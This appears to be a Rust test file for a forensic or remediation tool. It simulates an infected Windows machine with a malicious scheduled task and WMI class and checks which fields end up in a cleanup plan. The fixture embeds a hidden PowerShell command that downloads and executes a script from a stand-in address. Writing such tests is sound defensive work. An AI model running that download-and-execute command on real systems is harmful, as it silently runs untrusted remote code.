//! What is collected from a machine and what the machine itself has, field by field.

use super::*;
use crate::object::{Context, read, sha256_hex};
use evidence::{ScheduledTask, Value, WmiClass};
use machine::memory::Memory;

const COMMAND: &str =
    "-NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\"";

/// The infected machine, its task downloading something.
fn machine() -> Memory {
    let mut state = infected();
    let task = state.tasks.get_mut(r"\bad task").unwrap();
    let does = format!("<Command>powershell.exe</Command><Arguments>{COMMAND}</Arguments>");
    task.xml = task.xml.replace("<Command>Bad.exe</Command>", &does);
    Memory::new(state)
}

/// The task and the class as a collection has them.
fn collected(memory: &Memory) -> Evidence {
    let state = memory.snapshot();
    let task = &state.tasks[r"\bad task"];
    let task = ScheduledTask {
        path: task.path.clone(),
        enabled: Some(task.enabled),
        security: task.security.clone(),
        definition_sha256: Some(parse::tasks::definition_sha256(&task.xml)),
        ..parse::tasks::definition(&task.xml).unwrap()
    };
    let class = &state.namespaces[r"root\default"].classes["bad_store"];
    let class = WmiClass { mof_sha256: Some(sha256_hex(class.mof.as_bytes())), ..class.class.clone() };
    let records = [RecordData::Task(task), RecordData::WmiClass(class)];
    let provenance = Provenance { source: 0, location: Location::Whole };
    let records = records.map(|data| Record { provenance, data }).to_vec();
    Evidence { records, ..evidence([]) }
}

fn planned(evidence: &Evidence) -> Plan {
    let assessment = detect::assess(evidence, intel());
    let include = assessment.findings.iter().map(|finding| finding.id.clone()).collect();
    plan(&assessment, intel(), &Choice { include, ..Choice::default() })
}

#[test]
fn a_plan_from_the_machine_holds_every_field_of_its_tasks_and_classes() {
    let memory = machine();
    let plan = planned(&collected(&memory));
    let facts = memory.state().facts.clone();
    let context = Context { facts: &facts, intel: intel() };
    for name in [r"\Bad task", r"root\default:Bad_Store"] {
        let action = plan.actions.iter().find(|action| action.target.name() == name).unwrap();
        let found = read(&memory, &action.target, &context).unwrap().unwrap();
        assert_eq!(action.precondition.fields, found.fields(), "{name}");
        assert!(action.precondition.fields.len() >= 7, "{name}");
    }
}

#[test]
fn what_a_collection_does_not_tell_is_not_in_the_plan() {
    let memory = machine();
    let mut evidence = collected(&memory);
    for record in &mut evidence.records {
        match &mut record.data {
            // As the registry tells of a task: who runs it is not an account there.
            RecordData::Task(task) => {
                *task = ScheduledTask {
                    path: task.path.clone(),
                    principal: Some("Author".into()),
                    actions: task.actions.clone(),
                    ..ScheduledTask::default()
                };
            }
            // As a listing tells of a class, and the repository of a qualifier of a property.
            RecordData::WmiClass(class) => {
                class.mof_sha256 = None;
                class.properties.iter_mut().for_each(|property| property.cim_type.clear());
                class.qualifiers = vec![("mimi.Long".into(), Value::from("x".repeat(300)))];
            }
            _ => {}
        }
    }
    let plan = planned(&evidence);
    let fields = |name: &str| {
        let action = plan.actions.iter().find(|action| action.target.name() == name).unwrap();
        action.precondition.fields.keys().cloned().collect::<Vec<_>>()
    };
    assert_eq!(fields(r"\Bad task"), ["Actions", "Command"]);
    assert_eq!(fields(r"root\default:Bad_Store"), ["__PROPERTIES", "__SUPERCLASS", "mimi"]);
}
